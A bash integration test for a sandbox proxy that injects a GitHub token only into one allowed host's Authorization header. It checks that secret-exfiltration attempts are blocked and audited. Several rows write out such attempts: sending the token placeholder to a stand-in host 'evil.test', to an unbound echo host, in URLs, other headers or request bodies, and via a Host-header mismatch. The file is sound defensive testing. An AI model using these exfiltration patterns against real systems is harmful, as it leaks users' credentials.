#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The escapes.md rows of secret injection (73, 74, 75, 77, 79) against cage-proxy in the lab:
# the cage holds only the placeholder of GITHUB_TOKEN (bound to api.allowed.test, Authorization);
# the real value may reach the lab only in that header of requests to api.allowed.test, and
# never comes back to the agent. Plus benign controls.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/integration/secrets_setup.bash"

like "the workload sees the placeholder" "$PH" '^cagectl:secret:GITHUB_TOKEN:[0-9a-f]{32}$'
AUTH='-H "Authorization: Bearer $GITHUB_TOKEN"'

n=$(N 73); m=$(audit_mark)
r=$(cc echo.allowed.test "https://echo.allowed.test/$n $AUTH")
is "row 73: placeholder to an allowed, unbound host → 403" "$(status_of "$r")" 403
like "row 73: the answer names the reason" "$r" 'secret.placeholder_misdirected'
check "row 73: audited misdirected (unbound_host, GITHUB_TOKEN)" audit_has "$m" proxy.request \
	'secret.placeholder_misdirected.*unbound_host'
refute "row 73: the echo host never saw the request" grep -q -- "$n" /run/lab/sentinel.log

n=$(N 74); m=$(audit_mark)
r=$(cc $n.evil.test "https://$n.evil.test/ $AUTH")
unlike "row 74: non-allowlisted host is refused before any substitution" "$(status_of "$r")" '^2'
check "row 74: denied at the SNI (policy first)" audit_has "$m" proxy.sni_denied "$n.evil.test"
refute "row 74: the secrets engine never saw it" audit_has "$m" proxy.request 'secret\.'

m=$(audit_mark)
r=$(cc api.allowed.test "https://api.allowed.test/headers $AUTH")
is "row 75: bound host → 200" "$(status_of "$r")" 200
like "row 75: the reflected header shows the placeholder" "$r" "Bearer $PH"
lacks "row 75: the real value never reaches the agent" "$r" "$REAL"
check "row 75: audited secrets_injected and secrets_redacted by name" audit_has "$m" secrets.used \
	'secrets_injected=GITHUB_TOKEN secrets_redacted=GITHUB_TOKEN'
check "row 75: the lab saw the real value in Authorization" \
	sh -c "tail -n +$((SENT0 + 1)) /run/lab/sentinel.log | grep -F -- 'Authorization: Bearer $REAL' | grep -q api.allowed.test"
r=$(cc api.allowed.test "https://api.allowed.test/headers -u \"x:\$GITHUB_TOKEN\"")
is "row 75: Basic auth (user:placeholder) → 200" "$(status_of "$r")" 200
lacks "row 75: echoed Basic base64(x:REAL) is redacted" "$r" "$(printf 'x:%s' "$REAL" | base64 -w0)"
lacks "row 75: ... and no real value in it" "$r" "$REAL"
r=$(cc api.allowed.test "--compressed https://api.allowed.test/headers $AUTH")
lacks "row 75: with Accept-Encoding asked for, still no real value" "$r" "$REAL"

n=$(N 77); m=$(audit_mark)
r=$(cc api.allowed.test "\"https://api.allowed.test/q/\$GITHUB_TOKEN?key=\$GITHUB_TOKEN\" $AUTH -H \"X-Echo: \$GITHUB_TOKEN\"")
is "row 77: placeholder in path/query/other header of the bound host → 403" "$(status_of "$r")" 403
check "row 77: audited location" audit_has "$m" proxy.request 'secret.placeholder_misdirected.*location'
r=$(cc api.allowed.test "https://api.allowed.test/headers -H \"X-Echo: \$GITHUB_TOKEN\"")
is "row 77: placeholder in X-Echo alone → 403" "$(status_of "$r")" 403
r=$(cc api.allowed.test "https://api.allowed.test/store -H 'content-type: application/json' -d \"{\\\"t\\\":\\\"\$GITHUB_TOKEN\\\"}\"")
is "row 77: placeholder in a body (no inject_body) → 403" "$(status_of "$r")" 403

n=$(N 79); m=$(audit_mark)
r=$(cc api.allowed.test "https://api.allowed.test/headers -H 'Host: echo.allowed.test' $AUTH")
is "row 79: SNI api, Host echo → 421" "$(status_of "$r")" 421
check "row 79: proxy.sni_host_mismatch" audit_has "$m" proxy.sni_host_mismatch

r=$(cc api.allowed.test "https://api.allowed.test/x -H 'Authorization: Bearer cagectl:secret:GITHUB_TOKEN:00000000000000000000000000000000'")
is "unknown placeholder → 403" "$(status_of "$r")" 403

# Benign controls: ordinary JSON API calls, with and without the key, bodies both ways.
r=$(cc api.allowed.test "https://api.allowed.test/ok")
is "benign: GET without a key → 200" "$(status_of "$r")" 200
r=$(cc api.allowed.test "-X POST https://api.allowed.test/store $AUTH -H 'content-type: application/json' -d '{\"a\":1,\"b\":[1,2,3]}'")
is "benign: POST JSON with the key → 201" "$(status_of "$r")" 201
like "benign: the API saw the body" "$r" '"bytes": 19'
r=$(cc echo.allowed.test "https://echo.allowed.test/e -H 'content-type: application/json' -d '{\"hello\":\"world\"}'")
is "benign: POST JSON to echo → 200" "$(status_of "$r")" 200
like "benign: echo returned the body" "$r" '"hello":"world"'
r=$(in_cage "$NOPX curl -s --cacert $CA -m 30 --resolve api.allowed.test:443:$A4 -H \"Authorization: Bearer \$GITHUB_TOKEN\" https://api.allowed.test/bytes/3000000 | wc -c")
is "benign: 3 MB download through the redaction stream" "$r" 3000000

is "sentinel: the real value only in api.allowed.test's Authorization header" "$(real_leaks)" 0
check "cage-proxy still running" kill -0 "$PROXY_PID"
done_testing
